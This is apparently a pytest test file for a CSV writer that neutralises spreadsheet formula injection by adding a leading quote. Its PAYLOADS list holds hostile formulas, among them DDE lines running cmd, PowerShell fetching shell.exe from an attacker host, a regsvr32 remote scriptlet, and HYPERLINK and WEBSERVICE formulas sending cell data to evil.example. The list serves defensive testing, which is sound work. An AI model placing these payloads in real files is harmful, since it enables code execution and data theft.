"""Formula-injection payloads through the one CSV writer: each is written with a leading
quote, and reading the file back gives the payload once that quote is removed."""

from __future__ import annotations

import csv
import io
import os
import stat
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

import numpy as np
import pytest

from insight_workbench.csvsafe import csv_bytes, csv_text, is_formula_like, write_csv

NBSP, NNBSP, FIGURE_SPACE = "\u00a0", "\u202f", "\u2007"
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]

# OWASP's CSV-injection examples, DDE forms and known bypasses of a naive prefix test.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll'!''",
    "|cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://x","y")',
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")',
    '=IMPORTXML(CONCAT("http://x/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://x/"&A1)',
    '=IMAGE("http://x/pixel.png")',
    "=2+5+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain after a tab",
    "\rplain after a carriage return",
    "\nplain after a line feed",
    "\0=1+1",
    " =1+1",
    "   +1+1",
    " \t -1+1",
    NBSP + "=1+1",
    NNBSP + "@SUM(1+1)",
    FIGURE_SPACE + "+1+1",
    "\u3000=1+1",  # ideographic space
    "\u2003-1+1",  # em space
    *(char + "=1+1" for char in ZERO_WIDTH),
    "\u200b" + NBSP + " \u2060=1+1",
    "\ufeff\u200b@SUM(1+1)",
    "＝1+1",  # full-width equals sign
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    ' ＝HYPERLINK("http://x")',
    "\ufe66" + "1+1",  # small equals sign
    "\u202e=1+1",  # a bidi override before the formula
    "\x01=1+1",
    unquote("%0A-1+1"),  # URL-encoded line feed, as a web form stores it
    unquote("%09+1+1"),
    unquote("%0D@SUM(1+1)"),
    "=1+1,=2+2",  # a comma inside the cell: quoted, still one cell
    '="quoted ""text"""',
    "-",
    "+",
    "=",
    "@",
]

SAFE = [
    "plain text",
    "a=b",
    "1-2",
    "user@example.org",
    "'=already quoted",
    "",
    " ",
    "Zoë Brontë",
    "%0A-1+1",  # literally percent, zero, A: a spreadsheet shows it as text
]


def _read(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


def test_there_are_at_least_forty_payloads() -> None:
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS, ids=[ascii(p) for p in PAYLOADS])
def test_each_payload_is_written_neutralised_and_reads_back_intact(payload: str) -> None:
    assert is_formula_like(payload)
    data = csv_bytes(["value", "count"], [[payload, 3]]).decode("utf-8-sig")
    [header, row] = _read(data)
    assert header == ["value", "count"]
    cell, count = row
    assert cell == "'" + payload  # one leading quote, the rest exactly as given
    assert cell.removeprefix("'") == payload
    assert count == "3"


@pytest.mark.parametrize("text", SAFE, ids=[ascii(t) for t in SAFE])
def test_safe_text_is_written_as_it_is(text: str) -> None:
    assert not is_formula_like(text)
    assert _read(csv_text(["value"], [[text]]))[1] == [text]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-12, "-12"),
        (-3.5, "-3.5"),
        (Decimal("-0.25"), "-0.25"),
        (np.int64(-7), "-7"),
        (np.float64(-1.5), "-1.5"),
        (np.bool_(True), "true"),
        (float("nan"), ""),
        ("-12", "'-12"),  # the same digits as text are text: a spreadsheet would compute them
    ],
)
def test_numbers_stay_numbers(value: object, written: str) -> None:
    assert _read(csv_text(["n"], [[value]]))[1] == [written]


def test_header_names_are_neutralised_too() -> None:
    assert _read(csv_text(["=evil", "ok"], []))[0] == ["'=evil", "ok"]


def test_a_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="2 cells for 1 columns"):
        csv_text(["a"], [["x", "y"]])


def test_write_csv_writes_the_whole_file_owner_only(tmp_path: Path) -> None:
    target = write_csv(tmp_path / "out.csv", ["a"], [["=1+1"]])
    assert target.read_bytes() == b"\xef\xbb\xbfa\r\n'=1+1\r\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert os.listdir(tmp_path) == ["out.csv"]  # no temporary file left


def test_write_csv_leaves_nothing_behind_when_a_row_fails(tmp_path: Path) -> None:
    def rows():
        yield ["fine"]
        raise RuntimeError("the query failed half way")

    with pytest.raises(RuntimeError):
        write_csv(tmp_path / "out.csv", ["a"], rows())
    assert os.listdir(tmp_path) == []


def test_write_csv_keeps_the_old_file_when_writing_fails(tmp_path: Path) -> None:
    target = write_csv(tmp_path / "out.csv", ["a"], [["old"]])
    before = target.read_bytes()
    with pytest.raises(ValueError, match="a row has 2 cells for 1 columns"):
        write_csv(target, ["a"], [["new"], ["too", "wide"]])
    assert target.read_bytes() == before
    assert os.listdir(tmp_path) == ["out.csv"]
